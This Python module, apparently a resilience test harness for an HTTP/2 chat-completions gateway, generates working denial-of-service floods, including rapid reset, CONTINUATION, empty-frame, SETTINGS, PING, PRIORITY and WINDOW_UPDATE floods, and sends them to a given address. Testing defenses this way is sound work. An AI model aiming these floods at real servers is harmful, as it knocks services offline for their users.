"""Floods of HTTP/2 frames that cost their sender little: each yields the bytes that a client writes after the
preface.
"""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import Callable, Iterator

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: Seconds in which a flood is sent, or its connection closed.
PATIENCE = 200
Flood = Callable[[str], Iterator[Frame]]


def _head(key: str, *more: tuple[str, str]) -> bytes:
    lines = [
        (":method", "POST"),
        (":path", "/v1/chat/completions"),
        (":scheme", "http"),
        (":authority", "gateway"),
    ]
    lines += [("authorization", f"Bearer {key}"), ("content-type", "application/json"), *more]
    return hpack.Encoder().encode(lines, huffman=False)


def _begin(stream: int, head: bytes, *flags: str) -> Frame:
    return HeadersFrame(stream, head, flags=flags)


def rapid_reset(key: str) -> Iterator[Frame]:
    """Complete requests that are reset at once."""
    head, body = _head(key), b'{"model":"gpt-4.1","messages":[]}'
    for stream in range(1, 40_001, 2):
        yield _begin(stream, head, "END_HEADERS")
        yield DataFrame(stream, body, flags=["END_STREAM"])
        yield RstStreamFrame(stream, error_code=8)


def reset_heads(key: str) -> Iterator[Frame]:
    """Requests that are reset before their bodies."""
    head = _head(key, ("content-length", "1000"))
    for stream in range(1, 40_001, 2):
        yield _begin(stream, head, "END_HEADERS")
        yield RstStreamFrame(stream, error_code=8)


def continuations(key: str) -> Iterator[Frame]:
    """One request whose headers never end."""
    yield _begin(1, _head(key))
    for _ in range(20_000):
        yield ContinuationFrame(1, b"\x00\x01a\x7f\x80\x06" + b"b" * 133)


def empty_continuations(key: str) -> Iterator[Frame]:
    yield _begin(1, _head(key))
    for _ in range(200_000):
        yield ContinuationFrame(1, b"")


def empty_data(key: str) -> Iterator[Frame]:
    yield _begin(1, _head(key), "END_HEADERS")
    for _ in range(200_000):
        yield DataFrame(1, b"")


def settings(_: str) -> Iterator[Frame]:
    for number in range(100_000):
        yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535 + number % 2})


def pings(_: str) -> Iterator[Frame]:
    for _number in range(100_000):
        yield PingFrame(0, b"12345678")


def priorities(_: str) -> Iterator[Frame]:
    for stream in range(1, 200_001, 2):
        yield PriorityFrame(stream, depends_on=0, stream_weight=1)


def windows(key: str) -> Iterator[Frame]:
    yield _begin(1, _head(key), "END_HEADERS")
    for _ in range(200_000):
        yield WindowUpdateFrame(1, window_increment=1)


FLOODS: dict[str, Flood] = {
    each.__name__: each
    for each in (
        *(rapid_reset, reset_heads, continuations, empty_continuations, empty_data),
        *(settings, pings, priorities, windows),
    )
}


async def flood(address: tuple[str, int], frames: Iterator[Frame]) -> None:
    """Sends the frames on a connection, until all are sent or the peer closes it; reads the answers."""
    reader, writer = await asyncio.open_connection(*address)

    async def read() -> None:
        while await reader.read(65_536):
            pass

    reading = asyncio.create_task(read())
    with contextlib.suppress(OSError):
        writer.write(_PREFACE + SettingsFrame(0).serialize())
        piece = bytearray()
        for frame in frames:
            piece += frame.serialize()
            if len(piece) > 32_768:
                writer.write(bytes(piece))
                piece.clear()
                await writer.drain()
                await asyncio.sleep(0)
                if reading.done():
                    break
    reading.cancel()
    await asyncio.gather(reading, return_exceptions=True)
    writer.close()
    with contextlib.suppress(OSError):
        await writer.wait_closed()
